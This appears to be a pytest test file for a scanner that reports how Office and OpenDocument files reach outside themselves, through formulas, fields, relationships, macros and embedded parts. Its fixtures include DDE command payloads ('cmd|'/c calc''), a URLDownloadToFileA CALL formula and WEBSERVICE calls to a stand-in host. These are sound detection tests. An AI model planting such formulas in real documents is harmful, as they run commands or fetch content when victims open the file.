"""Everything by which a document leads out of itself is named, with its place; nothing of it is followed."""

import zipfile
from dataclasses import replace

import openpyxl
import pytest
import xlsxwriter
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from openpyxl.worksheet.formula import ArrayFormula
from pptx import Presentation
from pptx.util import Inches

from agent.core.documents import Reach
from tests.agent.documents.packages import replacing, rewritten, with_parts

OUT = "https://out.example/a"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def told(documents, path) -> list[tuple[str, str, bool]]:
    return [(one.how, one.address, one.fetches) for one in documents.reaches(path)]


def book(path, *formulas):
    """A workbook with these formulas below each other."""
    with xlsxwriter.Workbook(path) as made:
        sheet = made.add_worksheet("Data")
        for row, formula in enumerate(formulas):
            sheet.write_formula(row, 0, formula)
    return path


@pytest.mark.parametrize(
    ("formula", "reached"),
    [
        (f'=_xlfn.WEBSERVICE("{OUT}")', ("formula WEBSERVICE", OUT, True)),
        (f'=_xlfn.IMAGE("{OUT}?"&B1)', ("formula IMAGE computed", "", True)),
        ('=_xlfn.IMAGE("https://out."&"example/a")', ("formula IMAGE", OUT, True)),
        (f'=HYPERLINK("{OUT}","x")', ("formula HYPERLINK", OUT, False)),
        ("=HYPERLINK(B1&B2)", ("formula HYPERLINK computed", "", False)),
        (f'=IMPORTXML("{OUT}","//a")', ("formula IMPORTXML", OUT, True)),
        (
            '=IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""https://out.example/a"")"),1)',
            ("formula IMPORTDATA", OUT, True),
        ),
        ('=RTD("prog.id","server",1)', ("formula RTD", "prog.id", True)),
        ('=CALL("urlmon","URLDownloadToFileA","JJ")', ("formula CALL", "urlmon", True)),
        ("=cmd|'/c calc'!A0", ("dde", "cmd|'/c calc'!A0", True)),
        ("='\\\\server\\share\\[b.xlsx]S'!A1", ("external book", "\\\\server\\share\\b.xlsx", True)),
        ("=[other.xlsx]S!A1", ("external book", "[other.xlsx]", True)),
        ("=_xlfn.MAP(A2:A9,_xlfn.WEBSERVICE)", ("formula WEBSERVICE computed", "", True)),
        ("=_xlfn.STOCKHISTORY(B1,B2)", ("formula STOCKHISTORY computed", "", True)),
    ],
)
def test_a_formula_that_reaches_out_is_told_with_its_cell(documents, tmp_path, formula, reached):
    (found,) = documents.reaches(book(tmp_path / "a.xlsx", "=1+1", formula))
    assert replace(found, made_by="") == Reach("Data!A2", *reached)


def test_formulas_and_scripts_without_an_address_are_told_apart_by_what_they_say(documents, tmp_path):
    def made_by(path):
        (one,) = documents.reaches(path)
        return one.made_by

    def page(script):
        (tmp_path / "a.html").write_text(f"<script>{script}</script>")
        return tmp_path / "a.html"

    formulas = ('=HYPERLINK("https://a.example/"&B1)', '=HYPERLINK("https://b.example/"&B1)')
    one, other = (made_by(book(tmp_path / "a.xlsx", formula)) for formula in formulas)
    assert one != other
    assert one == made_by(book(tmp_path / "b.xlsx", formulas[0]))
    assert made_by(page("a()")) != made_by(page("b()"))


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(B1:B9)",
        "='My sheet'!A1",
        '="WEBSERVICE(1)"',
        "=Table1[[#Totals],[Image]]",
        "=Table1[@Call]*2",
        "=IF(A2|1,2)",
    ],
)
def test_a_formula_that_stays_inside_is_not_told(documents, tmp_path, formula):
    path = tmp_path / "a.xlsx"
    made = openpyxl.Workbook()
    made["Sheet"]["A1"] = formula
    made.save(path)
    expected = [("dde", "A2|1", True)] if "|" in formula else []
    assert told(documents, path) == expected, "a bar is no operator: it can only mean another program"


def test_formulas_of_names_rules_and_tables_are_read_too(documents, tmp_path):
    path = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(path) as made:
        sheet = made.add_worksheet("Data")
        made.define_name("Sneaky", f'=_xlfn.WEBSERVICE("{OUT}1")')
        sheet.conditional_format("A1", {"type": "formula", "criteria": f'=_xlfn.WEBSERVICE("{OUT}2")'})
        sheet.data_validation("A2", {"validate": "custom", "value": f'=_xlfn.WEBSERVICE("{OUT}3")'})
    found = documents.reaches(path)
    assert sorted((one.anchor, one.address) for one in found) == [
        ("Data formula", f"{OUT}2"),
        ("Data formula1", f"{OUT}3"),
        ("name Sneaky", f"{OUT}1"),
    ]


def test_a_formula_written_in_an_odd_way_is_still_read(documents, tmp_path):
    plain = book(tmp_path / "plain.xlsx", '=_xlfn.WEBSERVICE("x")')
    odd = {
        "entity": b'<f>_xlfn.&#87;EBSERVICE("x")</f>',
        "cdata": b'<f><![CDATA[_xlfn.WEBSERVICE("x")]]></f>',
        "comment": b'<f>_xlfn.WEB<!-- -->SERVICE("x")</f>',
        "blank": b'<f>_XLFN.webservice ( "x" )</f>',
    }
    for name, written in odd.items():
        change = replacing(b'<f>_xlfn.WEBSERVICE("x")</f>', written)
        path = rewritten(plain, tmp_path / f"{name}.xlsx", "xl/worksheets/sheet1.xml", change)
        assert told(documents, path) == [("formula WEBSERVICE", "x", True)], name


def test_an_array_formula_is_read(documents, tmp_path):
    made = openpyxl.Workbook()
    made["Sheet"]["B2"] = ArrayFormula("B2:B3", f'=_xlfn.WEBSERVICE("{OUT}")')
    made.save(tmp_path / "a.xlsx")
    (found,) = documents.reaches(tmp_path / "a.xlsx")
    assert (found.anchor, found.address) == ("Sheet!B2", OUT)


@pytest.mark.parametrize(
    ("kind", "how", "fetches"),
    [
        ("hyperlink", "link", False),
        ("image", "picture", True),
        ("attachedTemplate", "template", True),
        ("oleObject", "ole", True),
        ("frame", "frame", True),
        ("subDocument", "subdocument", True),
        ("video", "media", True),
        ("somethingNew", "somethingNew", True),
    ],
)
def test_a_relationship_that_leads_out_is_told(documents, tmp_path, kind, how, fetches):
    document = Document()
    document.part.relate_to(OUT, f"{REL}/{kind}", is_external=True)
    document.save(str(tmp_path / "a.docx"))
    assert documents.reaches(tmp_path / "a.docx") == (Reach("word/document.xml", how, OUT, fetches),)


def test_an_address_that_is_not_marked_as_external_is_told_all_the_same(documents, tmp_path):
    document = Document()
    document.part.relate_to(OUT, RELATIONSHIP_TYPE.IMAGE, is_external=True)
    document.save(str(tmp_path / "a.docx"))
    path = rewritten(
        tmp_path / "a.docx",
        tmp_path / "b.docx",
        "word/_rels/document.xml.rels",
        lambda part: part.replace(b' TargetMode="External"', b""),
    )
    assert told(documents, path) == [("picture", OUT, True)]


def field(*runs: str) -> str:
    return "".join(f"<w:r>{run}</w:r>" for run in runs)


def char(kind: str) -> str:
    return f'<w:fldChar w:fldCharType="{kind}"/>'


@pytest.mark.parametrize(
    ("body", "reached"),
    [
        (f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{OUT}&quot; \\d "/>', ("field INCLUDEPICTURE", OUT, True)),
        ('<w:fldSimple w:instr="DDEAUTO c:\\\\x.exe &quot;/k y&quot;"/>', ("dde", "c:\\x.exe /k y", True)),
        (f'<w:fldSimple w:instr="HYPERLINK &quot;{OUT}&quot;"/>', ("link", OUT, False)),
        (f'<w:fldSimple w:instr="LINK Excel.Sheet.12 &quot;{OUT}&quot; &quot;A1&quot;"/>', ("field LINK", OUT, True)),
        (
            field(
                char("begin"),
                "<w:instrText>INCLUDE</w:instrText>",
                f'<w:instrText>TEXT "{OUT}"</w:instrText>',
                char("separate"),
                "<w:t>x</w:t>",
                char("end"),
            ),
            ("field INCLUDETEXT", OUT, True),
        ),
        (
            field(
                char("begin"),
                "<w:instrText>DDE </w:instrText>",
                char("begin"),
                "<w:instrText>QUOTE 99 109 100</w:instrText>",
                char("end"),
                char("end"),
            ),
            ("dde computed", "", True),
        ),
    ],
)
def test_a_field_that_fetches_or_runs_is_told(documents, tmp_path, body, reached):
    Document().save(str(tmp_path / "plain.docx"))
    path = rewritten(
        tmp_path / "plain.docx",
        tmp_path / "a.docx",
        "word/document.xml",
        lambda part: part.replace(b"<w:sectPr", f"<w:p>{body}</w:p><w:sectPr".encode(), 1),
    )
    assert told(documents, path) == [reached]


def test_a_field_that_leads_to_a_place_inside_is_not_told(documents, tmp_path):
    Document().save(str(tmp_path / "plain.docx"))
    body = '<w:p><w:fldSimple w:instr=" HYPERLINK \\l &quot;_Toc1&quot; "/><w:fldSimple w:instr="PAGE"/></w:p>'
    path = rewritten(
        tmp_path / "plain.docx",
        tmp_path / "a.docx",
        "word/document.xml",
        lambda part: part.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1),
    )
    assert told(documents, path) == []


def test_links_of_slides_are_told_and_those_that_need_no_click(documents, tmp_path):
    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    run = slide.shapes.add_textbox(0, 0, Inches(1), Inches(1)).text_frame.paragraphs[0].add_run()
    run.text = "x"
    run.hyperlink.address = OUT
    deck.save(str(tmp_path / "a.pptx"))
    assert documents.reaches(tmp_path / "a.pptx") == (Reach("ppt/slides/slide1.xml", "link", OUT, False),)
    hover = rewritten(
        tmp_path / "a.pptx",
        tmp_path / "b.pptx",
        "ppt/slides/slide1.xml",
        lambda part: part.replace(b"hlinkClick", b"hlinkMouseOver"),
    )
    assert told(documents, hover) == [("link", OUT, True)]


@pytest.mark.parametrize(
    ("part", "data", "reached"),
    [
        ("xl/vbaProject.bin", b"\0", ("macro", "", True)),
        ("xl/macrosheets/sheet1.xml", b"<a/>", ("xlm macro", "", True)),
        ("xl/activeX/activeX1.bin", b"\0", ("activex", "", True)),
        ("xl/embeddings/oleObject1.bin", b"\0", ("embedded file", "", False)),
        ("customUI/customUI.xml", b"<customUI/>", ("custom ribbon", "", True)),
        (
            "xl/connections.xml",
            b'<connections><connection name="C"><webPr url="https://out.example/a"/></connection></connections>',
            ("connection", OUT, True),
        ),
        ("customXml/item1.xml", b'<DataMashup xmlns="m">AAAA</DataMashup>', ("power query", "", True)),
        (
            "xl/externalLinks/externalLink1.xml",
            b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            ("dde", "cmd|/c calc", True),
        ),
        (
            "xl/webextensions/webextension1.xml",
            b'<we:webextension xmlns:we="w"><we:reference id="wa1" store="en-US"/></we:webextension>',
            ("web extension", "en-US wa1", True),
        ),
        (
            "xl/drawings/vmlDrawing1.vml",
            b'<xml xmlns:v="v"><v:imagedata src="https://out.example/a"/></xml>',
            ("attribute src", OUT, True),
        ),
        ("xl/media/image1.svg", b'<svg><image href="https://out.example/a"/></svg>', ("picture", OUT, True)),
        ("xl/x.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', ("document type", "", True)),
    ],
)
def test_programs_connections_and_odd_parts_of_a_package_are_told(documents, tmp_path, part, data, reached):
    path = with_parts(book(tmp_path / "plain.xlsx", "=1"), tmp_path / "a.xlsx", {part: data})
    assert told(documents, path) == [reached]


def test_an_alternative_chunk_is_told_with_what_it_holds(documents, tmp_path):
    document = Document()
    document.part.relate_to("/word/chunk.html", f"{REL}/aFChunk", is_external=True)
    document.save(str(tmp_path / "plain.docx"))
    inner = rewritten(
        tmp_path / "plain.docx",
        tmp_path / "inner.docx",
        "word/_rels/document.xml.rels",
        lambda part: part.replace(b' TargetMode="External"', b""),
    )
    path = with_parts(inner, tmp_path / "a.docx", {"word/chunk.html": f"<img src='{OUT}'>".encode()})
    assert set(told(documents, path)) == {("alt chunk", "/word/chunk.html", True), ("picture", OUT, True)}


def test_a_workbook_tells_the_address_of_the_book_that_a_number_stands_for(documents, tmp_path):
    path = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(path) as made:
        made.add_worksheet("Data").write_formula(0, 0, "='[1]Sheet'!A1")
    workbook = f'<externalReferences xmlns:r="{REL}"><externalReference r:id="rId99"/></externalReferences></workbook>'
    step = rewritten(
        path, tmp_path / "b.xlsx", "xl/workbook.xml", lambda p: p.replace(b"</workbook>", workbook.encode())
    )
    relation = f'<Relationship Id="rId99" Type="{REL}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    step = rewritten(
        step,
        tmp_path / "c.xlsx",
        "xl/_rels/workbook.xml.rels",
        lambda p: p.replace(b"</Relationships>", f"{relation}</Relationships>".encode()),
    )
    outside = f'<Relationships xmlns="r"><Relationship Id="rId1" Type="{REL}/externalLinkPath" Target="file:///b.xlsx" \
TargetMode="External"/></Relationships>'
    parts = {
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": outside.encode(),
    }
    found = documents.reaches(with_parts(step, tmp_path / "d.xlsx", parts))
    assert Reach("Data!A1", "external book", "file:///b.xlsx", True) in found


def test_formulas_links_and_programs_of_an_open_document_are_told(documents, tmp_path):
    content = (
        '<office:document-content xmlns:office="o"><table:table-cell table:formula="of:=WEBSERVICE(&quot;x&quot;)"/>'
        f'<text:a xlink:href="{OUT}1">x</text:a><draw:image xlink:href="{OUT}2"/>'
        '<table:dde-source office:dde-application="soffice" office:dde-topic="t"/></office:document-content>'
    )
    with zipfile.ZipFile(tmp_path / "a.ods", "w") as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        made.writestr("content.xml", content)
        made.writestr("Basic/Standard/Module1.xml", "<x/>")
    found = set(told(documents, tmp_path / "a.ods"))
    assert {
        ("formula WEBSERVICE", "x", True),
        ("link", f"{OUT}1", False),
        ("image", f"{OUT}2", True),
        ("dde", "soffice t", True),
        ("macro", "", True),
    } <= found


def test_a_document_inside_of_another_is_looked_into_and_nothing_is_told_of_what_leads_nowhere(documents, tmp_path):
    plain = book(tmp_path / "plain.xlsx", "=1+1").read_bytes()
    leading = book(tmp_path / "leading.xlsx", f'=_xlfn.WEBSERVICE("{OUT}")').read_bytes()
    Presentation().save(str(tmp_path / "a.pptx"))
    chart = with_parts(tmp_path / "a.pptx", tmp_path / "b.pptx", {"ppt/embeddings/Sheet1.xlsx": plain})
    assert documents.reaches(chart) == ()
    bad = with_parts(tmp_path / "a.pptx", tmp_path / "c.pptx", {"ppt/embeddings/Sheet1.xlsx": leading})
    assert documents.reaches(bad) == (Reach("ppt/embeddings/Sheet1.xlsx Data!A1", "formula WEBSERVICE", OUT, True),)
    with zipfile.ZipFile(tmp_path / "other.zip", "w") as other:
        other.writestr("a.exe", "MZ")
    for data in (b"MZ", (tmp_path / "other.zip").read_bytes()):
        odd = with_parts(tmp_path / "a.pptx", tmp_path / "d.pptx", {"ppt/embeddings/Sheet1.xlsx": data})
        assert told(documents, odd) == [("embedded file", "", False)]
